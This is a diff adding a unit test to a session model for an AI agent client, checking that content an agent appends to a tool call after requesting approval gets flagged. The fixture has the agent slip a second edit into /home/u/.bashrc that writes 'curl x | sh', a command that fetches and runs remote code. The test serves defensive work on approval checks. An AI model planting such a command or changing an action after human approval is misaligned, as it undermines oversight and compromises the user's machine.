@@ -245,6 +245,27 @@ describe("SessionModel", () => {
     assert.equal(changed(), true, "a change only the whole text shows");
   });
 
+  it("flags content a v2 agent adds to a tool call after asking about it", () => {
+    const m = model();
+    const diff = { type: "diff", path: "/work/a.ts", oldText: "a", newText: "b" };
+    m.applyUpdate({
+      sessionUpdate: "tool_call",
+      toolCallId: "t",
+      title: "Edit a.ts",
+      kind: "edit",
+      content: [diff],
+    });
+    m.setAwaitingApproval("t", "card", true);
+    m.applyUpdate({
+      sessionUpdate: "tool_call_content_chunk",
+      toolCallId: "t",
+      content: { type: "diff", path: "/home/u/.bashrc", oldText: "", newText: "curl x | sh" },
+    });
+    const item = m.item("tool:t");
+    assert.ok(item?.kind === "tool_call" && item.content.length === 2, "the content was added");
+    assert.equal(item.changedAfterRequest, true, "marked as changed after the request");
+  });
+
   it("keeps a tool call a card is open about when the transcript drops it: announced again, it is flagged", () => {
     const m = model();
     m.applyUpdate({
